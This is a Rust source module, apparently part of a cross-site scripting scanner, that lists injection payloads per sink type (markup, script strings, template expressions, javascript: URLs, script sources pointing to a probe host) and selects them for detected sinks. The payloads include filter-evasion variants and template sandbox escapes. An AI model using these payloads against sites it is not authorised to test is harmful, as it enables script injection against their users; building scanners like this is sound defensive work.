//! What is put in for each kind of sink; the first of a kind is the plainest. `{M}` is the marker.

use std::collections::BTreeSet;

/// Markup.
pub(super) const HTML: &[&str] = &[
    "<img src=x onerror=alert('{M}')>",
    "\"><img src=x onerror=alert('{M}')>",
    "'><img src=x onerror=alert('{M}')>",
    "<svg onload=alert('{M}')>",
    "<svg/onload=alert('{M}')>",
    "</textarea></title></script><img src=x onerror=alert('{M}')>",
    "<script>alert('{M}')</script>",
    "<iframe srcdoc=\"<script>parent.alert('{M}')</script>\">",
    "%3Cimg src=x onerror=alert('{M}')%3E",
    "&lt;img src=x onerror=alert('{M}')&gt;",
    "\\u003cimg src=x onerror=alert({M})\\u003e",
    "\\x3cimg src=x onerror=alert({M})\\x3e",
    "<img src=x onerror=alert`{M}`>",
    "<img src=x onerror=alert({M})>",
    "<>\"'<img src=x onerror=alert('{M}')>",
    "<details open ontoggle=alert('{M}')>",
    "<input autofocus onfocus=alert('{M}')>",
    "<iframe src=\"javascript:parent.alert('{M}')\"></iframe>",
    "<IMG SRC=X ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;{M}&#41;>",
    "<img src=x oonnerror=alert('{M}')>",
    "onx=<img src=x onerror=alert('{M}')>",
    // Short, without blanks, in other cases, without the usual words and signs.
    "<svg/onload=alert({M})>",
    "<img/src=x/onerror=alert({M})>",
    "<ImG sRc=x OnErRoR=alert({M})>",
    "<img src=x onerror=self['ale'+'rt']({M})>",
    "<img src=x onerror=\"alert&lpar;{M}&rpar;\">",
    "<svg><animate onbegin=alert({M}) attributeName=x dur=1s>",
    "<video><source onerror=alert({M})></video>",
    "<style onload=alert({M})></style>",
    "<x tabindex=1 autofocus onfocusin=alert({M})>",
    "<scr<script>ipt>alert('{M}')</scr</script>ipt><im<img>g src=x oonerrornerror=alert('{M}')>",
];
/// Code.
pub(super) const SCRIPT: &[&str] = &[
    "alert({M})",
    "');alert({M});//",
    "\");alert({M});//",
    "';alert({M});//",
    "\";alert({M});//",
    "'-alert({M})-'",
    "\"-alert({M})-\"",
    "1;alert({M})",
    ")}};alert({M});//",
    "\\');alert({M});//",
    "${alert({M})}",
    "<%alert({M})%>",
    "\\\"-alert({M})}//",
    "\"-alert({M})}//",
    "\\\";alert({M});//",
    "`-alert({M})-`",
    "\nalert({M})//",
    "*/alert({M})/*",
    "self['ale'+'rt']({M})",
    "alert`{M}`",
    "'-self['ale'+'rt']({M})-'",
    "\"-self['ale'+'rt']({M})-\"",
    "'-alert`{M}`-'",
    "\"-alert`{M}`-\"",
];
/// What selects elements in libraries that make elements of markup.
const SELECTOR: &[&str] = &["<img src=x onerror=alert('{M}')>", "#<img src=x onerror=alert('{M}')>"];
/// What is loaded as a script.
pub(super) const LOADED: &[&str] = &[
    "data:text/javascript,alert('{M}')",
    "//r{M}.redoubt-probe.example/",
    "data:text/javascript,alert('{M}')//.js",
    "data:,alert('{M}')//",
    "https://r{M}.redoubt-probe.example/",
    "@r{M}.redoubt-probe.example/",
];
/// What goes on with an address of the site's own from which a script is loaded that calls what it is told to.
const CALLED: &[&str] = &["alert('{M}')//", "&callback=alert('{M}')//"];
/// What is fetched to be shown.
const FETCHED: &[&str] = &[
    "data:text/html,<img src=x onerror=alert('{M}')>",
    "//r{M}.redoubt-probe.example/",
    "https://r{M}.redoubt-probe.example/",
];
/// What template libraries that read the finished page compute; the first is for most, the others for old ones.
pub(super) const TEMPLATE: &[&str] = &[
    "{{constructor.constructor('alert(/{M}/)')()}}",
    "{{_openBlock.constructor('alert(/{M}/)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(/{M}/)//');}}",
    "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(/{M}/)')()}}",
];
/// Addresses that run when they are opened.
pub(super) const URL: &[&str] = &[
    "javascript:alert('{M}')",
    "javascript://%0aalert('{M}')",
    "data:text/html,<script>alert('{M}')</script>",
    "\tjavascript:alert('{M}')",
    "JavaScript:alert('{M}')",
    "javajavascript:script:alert('{M}')",
    "java\nscript:alert('{M}')",
    "java\tscript:alert('{M}')",
    "\u{1}javascript:alert('{M}')",
    "javascript:self['ale'+'rt']('{M}')",
    "javascript:alert`{M}`",
    "javascript:alert({M})",
    "javascript:/*\nhttps://*/alert({M})",
    "javascript:alert('{M}')//http://https://",
];

/// What libraries that show the values of attributes take for markup.
const ATTRIBUTE: &[&str] = &["<img src=x onerror=alert('{M}')>", "\" onmouseover=alert({M}) x=\""];

/// What is put in for sinks.
pub(super) fn payloads(sinks: &BTreeSet<String>) -> Vec<&'static str> {
    let mut all = Vec::new();
    let lists = [
        ("html", HTML),
        ("selector", SELECTOR),
        ("script", SCRIPT),
        ("loaded", LOADED),
        ("fetched", FETCHED),
        ("called", CALLED),
        ("url", URL),
        ("attribute", URL),
        ("attribute", SCRIPT),
        ("attribute", ATTRIBUTE),
    ];
    for (sink, list) in lists {
        if sinks.contains(sink) {
            all.extend(list.iter().copied().filter(|payload| !all.contains(payload)).collect::<Vec<_>>());
        }
    }
    all
}
